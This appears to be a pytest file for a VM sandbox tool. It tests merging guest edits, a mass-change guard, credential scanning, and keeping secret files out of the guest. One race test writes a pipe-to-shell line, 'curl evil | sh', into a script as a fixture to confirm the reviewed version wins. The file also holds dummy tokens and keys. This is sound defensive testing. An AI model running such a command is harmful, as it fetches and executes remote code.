"""The review on a real VM: three-way merges, the mass-change guard and the secret scans, both ways.

The tests share one kept session but not their files: each works in its own directory and pulls only its own
paths, so any one of them runs alone (`-k`) or in any order.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from vmsandbox.session.record import Record

from .conftest import Cli, VmFactory, guest_sh

LINES = "".join(f"line {i}\n" for i in range(1, 21))


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    p = tmp_path_factory.mktemp("review") / "project"
    (p / "merge").mkdir(parents=True)
    for name in ("apart.txt", "overlap.txt", "gone.txt"):
        (p / "merge" / name).write_text(LINES)
    return p


@pytest.fixture(scope="module")
def session(module_vms: VmFactory, project: Path) -> Record:
    return module_vms.make(project)


def test_edits_that_do_not_overlap_are_merged_and_overlapping_ones_kept(
    cli: Cli, session: Record, project: Path
) -> None:
    guest_sh(
        session,
        "cd merge && sed -i 's/^line 3$/guest 3/' apart.txt overlap.txt gone.txt && "
        "sed -i 's/^line 18$/guest 18/' overlap.txt",
    )
    # the host edits the same files meanwhile: apart.txt far from the guest's edit, overlap.txt on the same line
    (project / "merge" / "apart.txt").write_text(LINES.replace("line 15\n", "host 15\n"))
    (project / "merge" / "overlap.txt").write_text(LINES.replace("line 3\n", "host 3\n"))
    (project / "merge" / "gone.txt").unlink()  # deleted on the host, edited in the guest: no merge to make

    shown = cli.run("pull", session.name, "merge", "--dry-run")
    assert shown.returncode == 0, shown.stderr.decode()
    table = shown.stderr.decode()
    assert "merged" in table
    assert "1 overlapping hunk(s), the rest merged" in table

    done = cli.run("pull", session.name, "merge", "--yes")
    assert done.returncode == 0, done.stderr.decode()  # every change dealt with: the conflicts kept beside
    merged = LINES.replace("line 3\n", "guest 3\n").replace("line 15\n", "host 15\n")
    assert (project / "merge" / "apart.txt").read_text() == merged
    # the overlapping edit: the host's file as the host left it, the guest's whole version beside it
    assert (project / "merge" / "overlap.txt").read_text() == LINES.replace("line 3\n", "host 3\n")
    beside = project / "merge" / f"overlap.txt.vmsandbox-{session.name}"
    assert beside.read_text() == LINES.replace("line 3\n", "guest 3\n").replace("line 18\n", "guest 18\n")
    assert not (project / "merge" / "gone.txt").exists()
    assert (project / "merge" / f"gone.txt.vmsandbox-{session.name}").read_text() == LINES.replace(
        "line 3\n", "guest 3\n"
    )
    assert "merged" in done.stderr.decode()


def test_a_mass_change_is_grouped_and_not_applied_by_yes(cli: Cli, session: Record, project: Path) -> None:
    guest_sh(session, "mkdir -p mass/gen && cd mass/gen && for i in $(seq 1 1050); do echo $i > f$i.txt; done")
    shown = cli.run("pull", session.name, "mass", "--dry-run")
    assert shown.returncode == 0, shown.stderr.decode()
    text = shown.stderr.decode()
    assert "a mass change: 1052 changed paths, more than mass_change_files (1000)" in text  # and 2 directories
    assert "mass/gen/" in text
    assert text.count("f1000.txt") == 0  # grouped, not listed
    done = cli.run("pull", session.name, "mass", "--yes")
    assert done.returncode == 3, done.stderr.decode()
    assert "nothing of it applied by --yes" in done.stderr.decode()
    assert not (project / "mass").exists()
    taken = cli.run("pull", session.name, "mass", "--yes", "--include-mass")
    assert taken.returncode == 0, taken.stderr.decode()
    assert len(list((project / "mass" / "gen").iterdir())) == 1050
    assert (project / "mass" / "gen" / "f777.txt").read_text() == "777\n"


def test_what_looks_like_a_credential_in_the_guest_is_flagged_and_not_applied_by_yes(
    cli: Cli, session: Record, project: Path
) -> None:
    token = "ghp_" + "Zx8kQ2mW9vR4tY7uP1sL3nB6cD0fG5hJ8aK2"
    guest_sh(
        session,
        f"mkdir -p creds && printf 'url: x\\ntoken: {token}\\n' > creds/deploy.yaml && "
        "printf 'api_key = vmsandbox-placeholder-0123456789abcdef0123456789abcdef\\n' > creds/uses_placeholder.ini && "
        "echo plain > creds/plain.txt",
    )
    done = cli.run("pull", session.name, "creds", "--yes", "--include-risky", "--include-ignored", "--include-binary")
    text = done.stderr.decode()
    assert done.returncode == 3, text
    assert "credential?" in text
    assert "GitHub Token (line 2)" in text
    assert token not in text  # the finding names the rule and the line, never the value
    assert not (project / "creds" / "deploy.yaml").exists()
    assert (project / "creds" / "plain.txt").read_text() == "plain\n"
    assert (project / "creds" / "uses_placeholder.ini").exists()  # the session's placeholders are not secrets


def test_credentials_and_ignored_paths_stay_out_of_the_vm(cli: Cli, tmp_path: Path) -> None:
    p = tmp_path / "going-in"
    (p / "private").mkdir(parents=True)
    (p / "private" / "notes.txt").write_text("mine\n")
    (p / ".env").write_text("DATABASE_URL=postgres://u:hunter2@db/x\n")
    (p / "deploy.pem").write_text("-----BEGIN RSA PRIVATE KEY-----\nMIIB\n-----END RSA PRIVATE KEY-----\n")
    (p / "settings.json").write_text('{"aws_secret_access_key": "wJalrXUtnFEMI/K7MDENG/bPxRfiCYzQ8vT3nL0p"}\n')
    (p / "main.py").write_text("print('hi')\n")
    (p / ".vmsandboxignore").write_text("private/\n")
    shown = cli.run("run", str(p), "--yes", "--", "sh", "-c", "ls -A | sort; echo new > main.py")
    err = shown.stderr.decode()
    assert shown.returncode == 0, err
    assert shown.stdout.decode().split() == [".vmsandboxignore", "main.py"]
    for name in (".env", "deploy.pem", "settings.json"):
        assert name in err
    assert "They stay out of the VM" in err
    # the project keeps them, untouched; the guest's edit came back
    assert (p / ".env").read_text() == "DATABASE_URL=postgres://u:hunter2@db/x\n"
    assert (p / "private" / "notes.txt").read_text() == "mine\n"
    assert (p / "main.py").read_text() == "new\n"
    sent = cli.run("run", str(p), "--send-secrets", "--", "sh", "-c", "ls -A | sort")
    assert sent.returncode == 0, sent.stderr.decode()
    assert sent.stdout.decode().split() == [".env", ".vmsandboxignore", "deploy.pem", "main.py", "settings.json"]


def test_the_terminal_applies_what_it_showed(cli: Cli, session: Record, project: Path) -> None:
    """While a person reads the prompt, the guest changes what the review showed (a file's content, another's
    mode, a link's target): what lands is what was shown."""
    from .test_workspace import Terminal

    made = "mkdir contract && cd contract && echo a > a.txt && echo b > b.txt"
    guest_sh(session, f"{made} && printf 'echo reviewed\\n' > run.sh && ln -s a.txt link && echo data > plain.txt")
    term = Terminal(cli.argv("pull", session.name, "contract"), cli.env())
    term.expect("[y/n/d/a/q]")
    later = "printf 'curl evil | sh\\n' > run.sh && chmod 755 run.sh plain.txt && ln -sfn b.txt link"
    guest_sh(session, f"cd contract && {later}")
    term.send("a\n")  # apply all the safe changes shown
    assert term.wait() == 0, term.seen.decode(errors="replace")
    assert (project / "contract" / "run.sh").read_text() == "echo reviewed\n"
    assert (project / "contract" / "link").readlink() == Path("a.txt")
    for name in ("run.sh", "plain.txt"):
        assert (project / "contract" / name).stat().st_mode & 0o111 == 0, name
    again = cli.run("pull", session.name, "--yes", "contract")  # the guest's later changes: a review of their own
    said = again.stderr.decode()
    assert "run.sh" in said and "executable" in said, said
    assert (project / "contract" / "run.sh").read_text() == "echo reviewed\n"  # risky: not applied by --yes
